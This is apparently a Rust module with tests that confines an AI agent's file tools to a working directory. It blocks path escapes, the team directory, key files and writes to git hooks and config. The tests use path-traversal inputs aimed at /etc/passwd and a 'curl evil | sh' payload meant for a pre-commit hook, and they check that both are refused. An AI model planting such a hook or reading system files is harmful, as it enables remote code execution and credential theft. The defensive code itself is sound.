//! File tools confined to the working directory: `read_file`, `write_file`, `edit_file`.
//!
//! A path is resolved against the working directory, normalised, and the longest existing
//! ancestor is canonicalized (so a symlink inside that points outside is caught); anything not
//! under the working directory is refused, and so is anything inside the team directory.
//!
//! They touch regular files only: a FIFO, a socket or a device is refused with an error that
//! says what it is (opening a FIFO blocks until a writer comes, forever in a worker).
//! `read_file` reads at most [`READ_BOUND`] bytes and says so when the file was longer.

use std::io::Read;
use std::os::unix::fs::{FileTypeExt, OpenOptionsExt};
use std::path::{Component, Path, PathBuf};

use serde_json::Value;

use super::{OUTPUT_CAP, ToolOutput, cap_output, check_input, input_opt_u64, input_str};

/// The directory the file tools are confined to.
#[derive(Debug, Clone)]
pub struct Workdir {
    root: PathBuf,
    /// Trees inside (or outside) it that no path may reach.
    forbidden: Vec<PathBuf>,
    /// Trees the file tools may read but not change.
    read_only: Vec<PathBuf>,
}

impl Workdir {
    /// The working directory at `path` (canonicalized).
    pub fn new(path: &Path) -> std::io::Result<Workdir> {
        Ok(Workdir {
            root: path.canonicalize()?,
            forbidden: Vec::new(),
            read_only: Vec::new(),
        })
    }

    /// Also refuses every path inside `dir` (the team dir, symlinks resolved), wherever it lies:
    /// with the default layout it sits inside the working dir, and a tool that could write its
    /// files could forge approvals, rewrite prompts or truncate inboxes.
    pub fn forbid(mut self, dir: &Path) -> Workdir {
        self.forbidden
            .push(dir.canonicalize().unwrap_or_else(|_| dir.to_path_buf()));
        self
    }

    /// The working dir of an agent of `team`: the team dir and the API key files named in the
    /// environment are out of the file tools' reach, and a git repository's hooks and config
    /// are read-only (git runs them later as the user, outside any sandbox).
    pub fn for_agent(path: &Path, team: &crate::TeamDir) -> std::io::Result<Workdir> {
        let mut wd = Workdir::new(path)?.forbid(team.root());
        wd = crate::llm::key_files().iter().fold(wd, |w, k| w.forbid(k));
        let git = wd.root.join(".git");
        wd.read_only = vec![git.join("hooks"), git.join("config")];
        Ok(wd)
    }

    /// [`Workdir::resolve`] for a path about to be written: read-only trees are refused too.
    pub fn resolve_writable(&self, user: &str) -> Result<PathBuf, String> {
        let real = self.resolve(user)?;
        if self.read_only.iter().any(|r| real.starts_with(r)) {
            return Err(format!("{user} is read-only to the file tools"));
        }
        Ok(real)
    }

    /// The canonical root.
    pub fn root(&self) -> &Path {
        &self.root
    }

    /// Resolves a path given by the model, refusing anything outside the working directory.
    pub fn resolve(&self, user: &str) -> Result<PathBuf, String> {
        let escape = || format!("path escapes the working directory: {user}");
        if user.is_empty() {
            return Err("path is empty".to_owned());
        }
        let joined = self.root.join(user);
        let mut norm = PathBuf::new();
        for c in joined.components() {
            match c {
                Component::ParentDir => {
                    if !norm.pop() {
                        return Err(escape());
                    }
                }
                Component::CurDir => {}
                other => norm.push(other),
            }
        }
        // Canonicalize the longest existing ancestor, then re-append the rest.
        let mut existing = norm.clone();
        let mut rest = Vec::new();
        while !existing.exists() {
            if existing.symlink_metadata().is_ok() {
                // A dangling symlink: writing through it would create its target, wherever
                // that is.
                return Err(escape());
            }
            match existing.file_name() {
                Some(n) => rest.push(n.to_owned()),
                None => break,
            }
            if !existing.pop() {
                break;
            }
        }
        let mut real = existing
            .canonicalize()
            .map_err(|e| format!("cannot resolve {user}: {e}"))?;
        for n in rest.into_iter().rev() {
            real.push(n);
        }
        if !real.starts_with(&self.root) {
            return Err(escape());
        }
        if self.forbidden.iter().any(|f| real.starts_with(f)) {
            return Err(format!(
                "path is inside the team directory, which tools may not touch: {user}"
            ));
        }
        Ok(real)
    }
}

/// `read_file{path, limit?}`.
pub fn read_file(wd: &Workdir, input: &Value) -> ToolOutput {
    let run = || -> Result<String, String> {
        check_input(input)?;
        let user = input_str(input, "path")?;
        let limit = input_opt_u64(input, "limit")?;
        let path = wd.resolve(user)?;
        let (bytes, size) = read_bounded(&path, user)?;
        let cut = (bytes.len() as u64) < size;
        let text =
            utf8_prefix(bytes, cut).ok_or_else(|| format!("{user} is not a UTF-8 text file"))?;
        let mut out = match limit {
            Some(n) => {
                let lines: Vec<&str> = text.lines().collect();
                let n = (n as usize).min(lines.len());
                let mut out = lines[..n].join("\n");
                if n < lines.len() {
                    let more = lines.len() - n;
                    out.push_str(&if cut {
                        format!("\n[at least {more} more lines not shown]")
                    } else {
                        format!("\n[{more} more lines not shown]")
                    });
                }
                out
            }
            None => text,
        };
        out = cap_output(out);
        if cut {
            out.push_str(&format!(
                "\n[{user} is {size} bytes; only its first {} bytes were read]",
                READ_BOUND
            ));
        }
        Ok(out)
    };
    match run() {
        Ok(s) => ToolOutput::ok(s),
        Err(e) => ToolOutput::error(e),
    }
}

/// Bytes of a file `read_file` reads at most: 4x the output cap (a character is up to 4
/// bytes), so a multi-GB log costs no more memory than a small one.
pub const READ_BOUND: usize = 4 * OUTPUT_CAP;

/// Reads at most [`READ_BOUND`] bytes of the regular file at `path`; returns them and the
/// file's size. Anything else (a FIFO, a socket, a device) is refused: reading one could
/// block the worker forever or never end. The open is non-blocking, so a FIFO swapped in
/// after the check cannot block it either.
fn read_bounded(path: &Path, user: &str) -> Result<(Vec<u8>, u64), String> {
    let file = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NONBLOCK | libc::O_NOCTTY)
        .open(path)
        .map_err(|e| format!("cannot read {user}: {e}"))?;
    let meta = file
        .metadata()
        .map_err(|e| format!("cannot read {user}: {e}"))?;
    check_regular(&meta, user)?;
    let mut bytes = Vec::new();
    file.take(READ_BOUND as u64)
        .read_to_end(&mut bytes)
        .map_err(|e| format!("cannot read {user}: {e}"))?;
    Ok((bytes, meta.len()))
}

/// Refuses anything but a regular file: reading or writing a FIFO blocks until the other
/// end opens it (forever, in a worker), a device or a socket may never end.
fn check_regular(meta: &std::fs::Metadata, user: &str) -> Result<(), String> {
    let kind = meta.file_type();
    let what = if kind.is_file() {
        return Ok(());
    } else if kind.is_dir() {
        return Err(format!("{user} is a directory"));
    } else if kind.is_fifo() {
        "a FIFO"
    } else if kind.is_socket() {
        "a socket"
    } else if kind.is_char_device() {
        "a character device"
    } else if kind.is_block_device() {
        "a block device"
    } else {
        "of an unknown kind"
    };
    Err(format!("{user} is not a regular file ({what})"))
}

/// [`check_regular`] for a path that may not exist yet (nothing to refuse then).
fn check_regular_if_exists(path: &Path, user: &str) -> Result<(), String> {
    match std::fs::metadata(path) {
        Ok(meta) => check_regular(&meta, user),
        Err(_) => Ok(()),
    }
}

/// The bytes as text, or `None` if they are not UTF-8. When the read was `cut`, a character
/// split by the cut is dropped rather than taken for binary.
fn utf8_prefix(mut bytes: Vec<u8>, cut: bool) -> Option<String> {
    match std::str::from_utf8(&bytes) {
        Ok(_) => {}
        Err(e) if cut && e.error_len().is_none() => bytes.truncate(e.valid_up_to()),
        Err(_) => return None,
    }
    String::from_utf8(bytes).ok()
}

/// `write_file{path, content}`.
pub fn write_file(wd: &Workdir, input: &Value) -> ToolOutput {
    let run = || -> Result<String, String> {
        check_input(input)?;
        let user = input_str(input, "path")?;
        let content = input_str(input, "content")?;
        let path = wd.resolve_writable(user)?;
        check_regular_if_exists(&path, user)?;
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent)
                .map_err(|e| format!("cannot create directories for {user}: {e}"))?;
        }
        std::fs::write(&path, content).map_err(|e| format!("cannot write {user}: {e}"))?;
        Ok(format!("wrote {} bytes to {user}", content.len()))
    };
    match run() {
        Ok(s) => ToolOutput::ok(s),
        Err(e) => ToolOutput::error(e),
    }
}

/// `edit_file{path, old_text, new_text}`: old_text must occur exactly once.
pub fn edit_file(wd: &Workdir, input: &Value) -> ToolOutput {
    let run = || -> Result<String, String> {
        check_input(input)?;
        let user = input_str(input, "path")?;
        let old = input_str(input, "old_text")?;
        let new = input_str(input, "new_text")?;
        if old.is_empty() {
            return Err("old_text is empty".to_owned());
        }
        let path = wd.resolve_writable(user)?;
        check_regular_if_exists(&path, user)?;
        let text =
            std::fs::read_to_string(&path).map_err(|e| format!("cannot read {user}: {e}"))?;
        match text.matches(old).count() {
            0 => Err(format!("old_text not found in {user}")),
            1 => {
                std::fs::write(&path, text.replacen(old, new, 1))
                    .map_err(|e| format!("cannot write {user}: {e}"))?;
                Ok(format!("edited {user}"))
            }
            n => Err(format!(
                "old_text occurs {n} times in {user}; include more context so it occurs once"
            )),
        }
    };
    match run() {
        Ok(s) => ToolOutput::ok(s),
        Err(e) => ToolOutput::error(e),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn confinement() {
        let tmp = tempfile::tempdir().unwrap();
        let wd = Workdir::new(tmp.path()).unwrap();
        assert!(wd.resolve("a/b.txt").is_ok());
        for bad in ["../x", "/etc/passwd", "a/../../x"] {
            assert_eq!(
                wd.resolve(bad).unwrap_err(),
                format!("path escapes the working directory: {bad}")
            );
        }
        std::os::unix::fs::symlink("/etc", tmp.path().join("link")).unwrap();
        std::os::unix::fs::symlink("/tmp/troupe-outside-target", tmp.path().join("dangling"))
            .unwrap();
        assert!(wd.resolve("dangling").is_err());
        assert!(write_file(&wd, &json!({"path": "dangling", "content": "x"})).is_error);
        assert!(!std::path::Path::new("/tmp/troupe-outside-target").exists());
        assert!(wd.resolve("link/passwd").is_err());
        let out = read_file(&wd, &json!({"path": "../../etc/passwd"}));
        assert!(out.is_error);
    }

    #[test]
    fn the_team_dir_is_out_of_reach_inside_the_working_dir() {
        let tmp = tempfile::tempdir().unwrap();
        let team = crate::TeamDir::create(tmp.path().join(".team")).unwrap();
        std::fs::write(team.config(), "{}").unwrap();
        let wd = Workdir::new(tmp.path()).unwrap().forbid(team.root());
        for path in [
            ".team/inbox/lead.jsonl",
            ".team/config.json",
            "./.team/requests/x.json",
            "sub/../.team/transcripts/bob.jsonl",
            ".team",
        ] {
            let w = write_file(&wd, &json!({"path": path, "content": ""}));
            assert!(w.is_error, "{path}: {}", w.content);
            assert!(w.content.contains("team directory"), "{}", w.content);
            assert!(read_file(&wd, &json!({"path": path})).is_error, "{path}");
        }
        // Through a symlink too.
        std::os::unix::fs::symlink(team.root(), tmp.path().join("t")).unwrap();
        assert!(read_file(&wd, &json!({"path": "t/config.json"})).is_error);
        assert_eq!(std::fs::read_to_string(team.config()).unwrap(), "{}");
        // The rest of the working dir is as before.
        assert!(!write_file(&wd, &json!({"path": ".teamwork/x", "content": "y"})).is_error);
    }

    #[test]
    fn git_hooks_and_config_are_read_only() {
        let tmp = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(tmp.path().join(".git/hooks")).unwrap();
        std::fs::write(tmp.path().join(".git/config"), "[core]\n").unwrap();
        let team = crate::TeamDir::create(tmp.path().join(".team")).unwrap();
        let wd = Workdir::for_agent(tmp.path(), &team).unwrap();
        for path in [".git/hooks/pre-commit", ".git/config", "./.git/hooks"] {
            let w = write_file(&wd, &json!({"path": path, "content": "curl evil | sh"}));
            assert!(
                w.is_error && w.content.contains("read-only"),
                "{path}: {}",
                w.content
            );
        }
        let e = edit_file(
            &wd,
            &json!({"path": ".git/config", "old_text": "[core]", "new_text": "[alias]"}),
        );
        assert!(e.is_error, "{}", e.content);
        assert!(!tmp.path().join(".git/hooks/pre-commit").exists());
        assert_eq!(
            read_file(&wd, &json!({"path": ".git/config"})).content,
            "[core]\n"
        );
        assert!(!write_file(&wd, &json!({"path": ".git/info/x", "content": "y"})).is_error);
    }

    #[test]
    fn write_read_edit() {
        let tmp = tempfile::tempdir().unwrap();
        let wd = Workdir::new(tmp.path()).unwrap();
        assert!(!write_file(&wd, &json!({"path": "d/f.txt", "content": "a\nb\nb\n"})).is_error);
        let r = read_file(&wd, &json!({"path": "d/f.txt", "limit": 1}));
        assert_eq!(r.content, "a\n[2 more lines not shown]");
        let e = edit_file(
            &wd,
            &json!({"path": "d/f.txt", "old_text": "b", "new_text": "c"}),
        );
        assert!(e.is_error && e.content.contains("occurs 2 times"));
        let e = edit_file(
            &wd,
            &json!({"path": "d/f.txt", "old_text": "z", "new_text": "c"}),
        );
        assert!(e.is_error && e.content.contains("not found"));
        assert!(
            !edit_file(
                &wd,
                &json!({"path": "d/f.txt", "old_text": "a", "new_text": "c"})
            )
            .is_error
        );
        assert!(
            read_file(&wd, &json!("{bad json"))
                .content
                .starts_with("invalid tool arguments")
        );
    }

    #[test]
    fn a_fifo_is_refused_at_once() {
        let tmp = tempfile::tempdir().unwrap();
        let wd = Workdir::new(tmp.path()).unwrap();
        nix::unistd::mkfifo(&tmp.path().join("pipe"), nix::sys::stat::Mode::S_IRWXU).unwrap();
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let _ = tx.send([
                read_file(&wd, &json!({"path": "pipe"})),
                write_file(&wd, &json!({"path": "pipe", "content": "x"})),
                edit_file(
                    &wd,
                    &json!({"path": "pipe", "old_text": "a", "new_text": "b"}),
                ),
            ]);
            drop(tmp);
        });
        let outs = rx
            .recv_timeout(std::time::Duration::from_secs(5))
            .expect("a file tool on a FIFO must not block");
        for out in outs {
            assert!(out.is_error, "{}", out.content);
            assert_eq!(out.content, "pipe is not a regular file (a FIFO)");
        }
    }

    #[test]
    fn a_huge_file_is_read_only_up_to_a_bound() {
        let tmp = tempfile::tempdir().unwrap();
        let wd = Workdir::new(tmp.path()).unwrap();
        let f = std::fs::File::create(tmp.path().join("big.log")).unwrap();
        f.set_len(200 * 1024 * 1024).unwrap();
        let mut text = "x\n".repeat(10);
        text.push_str(&"y".repeat(300_000));
        std::fs::write(tmp.path().join("head.txt"), &text).unwrap();
        let t0 = std::time::Instant::now();
        let out = read_file(&wd, &json!({"path": "big.log", "limit": 3}));
        assert!(t0.elapsed() < std::time::Duration::from_secs(2));
        assert!(!out.is_error, "{}", out.content);
        assert!(
            out.content
                .ends_with("[big.log is 209715200 bytes; only its first 200000 bytes were read]"),
            "{}",
            out.content
        );
        let out = read_file(&wd, &json!({"path": "head.txt"}));
        assert!(out.content.starts_with("x\nx\n"));
        assert!(
            out.content.contains("[output truncated") && out.content.contains("300020 bytes"),
            "{}",
            &out.content[out.content.len() - 300..]
        );
    }
}
